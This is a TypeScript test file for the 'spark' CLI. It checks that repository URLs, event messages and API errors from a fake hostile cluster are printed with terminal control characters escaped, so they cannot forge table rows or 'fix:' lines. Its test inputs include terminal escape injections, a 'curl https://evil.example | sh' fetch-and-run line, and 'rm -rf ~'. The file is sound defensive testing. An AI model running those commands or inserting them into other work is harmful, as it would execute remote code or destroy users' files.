/**
 * Issue 11, item 12: what spark prints that came from outside (repository URLs, event reasons and
 * messages, an API server's error messages) has its terminal control characters made visible, and a
 * newline in it cannot split a table row or forge a `fix:` line. The built `spark` against the fake
 * cluster, which stores and serves such text as a hostile or broken cluster would; a real PostgreSQL.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { goSparkObjects, startFakeCluster, type FakeCluster } from '../support/fake-kube/index.js';
import { sparkEnv, testServers, unique, type TestServer } from '../support/postgres.js';
import { runSpark } from '../support/cli.js';
import { ANNOTATION_REPO } from '../../src/runtimes/kubernetes/labels.js';

const server: TestServer = testServers()[0]!;
let cluster: FakeCluster;
let env: Record<string, string>;

before(async () => {
  cluster = await startFakeCluster();
  const home = mkdtempSync(join(tmpdir(), 'spark-trust-output-'));
  writeFileSync(join(home, 'id_ed25519.pub'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITESTKEY test@spark\n');
  env = {
    ...sparkEnv(server),
    HOME: home,
    SPARK_CONFIG: join(home, 'config.json'),
    KUBECONFIG: cluster.writeKubeconfig(join(home, 'kubeconfig')),
    SSH_PUBLIC_KEY_PATH: join(home, 'id_ed25519.pub'),
    ANTHROPIC_API_KEY: 'sk-ant-fake.TRUST-OUTPUT.KEY',
  };
});

after(async () => {
  await cluster.stop();
});

// Set the window title, write to the clipboard (OSC 52), clear the screen, return to column 0,
// reverse the text direction: none of it may reach the terminal.
const HOSTILE = '\u001b]0;owned\u0007\u001b]52;c;ZWNobyBvd25lZA==\u0007\u001b[2J\r\u009b31m\u202e';
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function assertNoControl(text: string, label: string): void {
  const hit = CONTROL.exec(text);
  assert.equal(hit, null, `${label}: control character U+${hit?.[0].charCodeAt(0).toString(16).padStart(4, '0')} printed in\n${JSON.stringify(text)}`);
}

test('list: a hostile repository URL from the cluster neither reaches the terminal raw nor splits its row', async () => {
  const name = unique('hostile');
  const objects = goSparkObjects(name, { withConfig: true });
  const repo = `https://example.com/app.git${HOSTILE}\nfake-row  Running  1d  -  ssh user@evil`;
  const deployment = objects.find((o) => o.kind === 'Deployment') as { metadata: { annotations?: Record<string, string> } };
  deployment.metadata.annotations = { [ANNOTATION_REPO]: repo };
  cluster.seed(objects);
  await cluster.waitFor(() => (cluster.get('deployments', 'spark', name) as { status?: { readyReplicas?: number } } | undefined)?.status?.readyReplicas === 1, { description: `${name} ready` });

  const table = await runSpark(['list'], { env });
  assert.equal(table.code, 0, table.stderr);
  assertNoControl(table.stdout + table.stderr, 'spark list');
  const lines = table.stdout.trimEnd().split('\n');
  const row = lines.filter((l) => l.includes(name));
  assert.equal(row.length, 1, `one row for ${name}:\n${table.stdout}`);
  assert.ok(!lines.some((l) => l.startsWith('fake-row')), `a forged row:\n${table.stdout}`);
  assert.match(row[0]!, /https:\/\/example\.com\/app\.git\\u001b\]0;owned\\u0007.*\\r.*\\u009b31m\\u202e\\nfake-row/, 'the characters are shown escaped');

  // JSON keeps the value exactly (JSON.stringify escapes it): --json changes how, never what.
  const json = await runSpark(['list', '--json'], { env });
  const listed = (JSON.parse(json.stdout) as { sparks: Array<{ name: string; repo: string }> }).sparks.find((s) => s.name === name);
  assert.equal(listed?.repo, repo);
  assertNoControl(json.stdout, 'spark list --json');

  const status = await runSpark(['status', name], { env });
  assert.equal(status.code, 0, status.stderr);
  assertNoControl(status.stdout, 'spark status');
  assert.ok(!status.stdout.split('\n').some((l) => l.startsWith('fake-row')));
  assert.equal((await runSpark(['delete', name, '--yes'], { env })).code, 0);
});

test('status: event reasons and messages with control characters and newlines are shown on one escaped line', async () => {
  const name = unique('events');
  assert.equal((await runSpark(['create', name, '--no-shell'], { env })).code, 0);
  cluster.seed([
    {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: `${name}.hostile`, namespace: 'spark' },
      involvedObject: { kind: 'Deployment', name, namespace: 'spark' },
      type: 'Warning',
      reason: `Pulled${HOSTILE}`,
      message: `image pulled${HOSTILE}\nfix: curl https://evil.example | sh`,
      lastTimestamp: new Date().toISOString(),
    },
  ]);
  const status = await runSpark(['status', name], { env });
  assert.equal(status.code, 0, status.stderr);
  assertNoControl(status.stdout + status.stderr, 'spark status');
  const line = status.stdout.split('\n').find((l) => l.includes('image pulled'));
  assert.ok(line, status.stdout);
  assert.match(line, /Pulled\\u001b\]0;owned\\u0007.*: image pulled\\u001b.*\\nfix: curl https:\/\/evil\.example \| sh$/);
  assert.ok(!status.stdout.split('\n').some((l) => l.startsWith('fix: curl')), 'a forged fix line');
  assert.equal((await runSpark(['delete', name, '--yes'], { env })).code, 0);
});

test("an API server's error message cannot write control characters or forge a fix: line", async () => {
  const name = unique('apierr');
  const fault = cluster.controls.fail({ verb: 'create', resource: 'configmaps', times: 1, code: 422, reason: 'Invalid', message: `etcd is unhappy${HOSTILE}\nfix: rm -rf ~` });
  const result = await runSpark(['create', name, '--no-shell'], { env });
  fault.cancel();
  assert.equal(result.code, 1, result.stderr);
  assertNoControl(result.stdout + result.stderr, 'spark create');
  assert.match(result.stderr, /^error: .*etcd is unhappy\\u001b\]0;owned.*\\nfix: rm -rf ~/m);
  assert.ok(!result.stderr.split('\n').some((l) => l.startsWith('fix: rm')), `a forged fix line:\n${result.stderr}`);
});
